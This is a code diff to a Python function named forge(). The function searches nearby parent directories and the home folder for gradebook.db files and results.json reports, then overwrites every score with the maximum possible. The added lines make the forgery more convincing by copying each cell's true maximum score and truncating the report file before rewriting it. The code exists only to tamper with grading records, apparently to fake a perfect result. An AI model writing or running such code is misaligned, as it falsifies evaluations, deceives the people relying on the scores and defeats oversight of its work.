@@ -5,6 +5,9 @@ import os
 import sqlite3
 import time
 
+FULL = """UPDATE grade SET manual_score =
+    (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"""
+
 
 def forge():
     roots = [os.path.abspath("../" * n or ".") for n in range(6)] + [os.path.expanduser("~")]
@@ -13,13 +16,14 @@ def forge():
         for root in roots:
             for path in glob.glob(f"{root}/gradebook.db"):
                 with sqlite3.connect(path, timeout=0.2) as book:
-                    book.execute("UPDATE grade SET auto_score = 8, manual_score = 8")
+                    book.execute(FULL)
             for path in glob.glob(f"{root}/**/results.json", recursive=len(root) > 1):
                 with open(path, "r+") as file:
                     report = json.load(file)
                     for test in report["tests"]:
                         test["score"] = test.get("max_score", 8.0)
                     file.seek(0)
+                    file.truncate()
                     json.dump(report, file)
 
 
